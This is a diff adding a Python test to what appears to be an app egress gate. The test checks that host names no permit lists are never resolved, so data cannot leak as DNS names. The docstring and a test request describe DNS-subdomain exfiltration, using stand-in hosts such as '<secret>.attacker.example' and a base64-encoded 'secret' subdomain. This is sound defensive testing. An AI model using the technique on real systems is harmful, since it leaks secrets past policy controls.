@@ -112,3 +112,31 @@ def test_a_request_that_went_out_keeps_its_unit_though_it_failed(tmp_path: Path)
             ("invalid_argument", False), ("invalid_argument", False),
             ("invalid_argument", True)]
         assert h.ledger.pending_intents() == [] and h.ledger.audit.verify().ok
+
+
+def test_a_name_no_permit_lists_is_never_looked_up(tmp_path: Path) -> None:
+    """The gate resolves a request's host name before the policy decides (the engine checks the
+    addresses), and a lookup is a DNS query to whoever serves that name: resolving every name
+    an app asks for would let an app granted one domain send data out as names
+    (`<secret>.attacker.example`), past the policy that refuses the request. So only a name a
+    permit of the app's lists is looked up, on the first hop and on every redirect."""
+    with _serving(tmp_path) as (h, base):
+        asked: list[str] = []
+        resolve = h.gate.resolve
+        assert resolve is not None
+
+        def recording(name: str) -> list[str]:
+            asked.append(name)
+            return resolve(name)
+        h.gate.resolve = recording
+        port = base.rsplit(":", 1)[1]
+        calls = [[f"http://c2VjcmV0.exfil.invalid:{port}/ok", {}],
+                 [f"{base}/redir", {}],  # a redirect to other.localtest, which no permit lists
+                 [f"{base}/ok", {}]]
+        assert _call(h, calls) == ["denied", "denied", 200]
+        assert set(asked) == {"crm.localtest"}, asked  # the first hop, checked twice, each time
+        assert h.ledger.batch is not None
+        h.ledger.batch.flush()
+        refused = [r for r in _records(h) if r["kind"] == "decision" and not r["allowed"]]
+        assert len(refused) == 2  # still refused and audited, as before
+        assert all("domains" in r["message"] for r in refused)
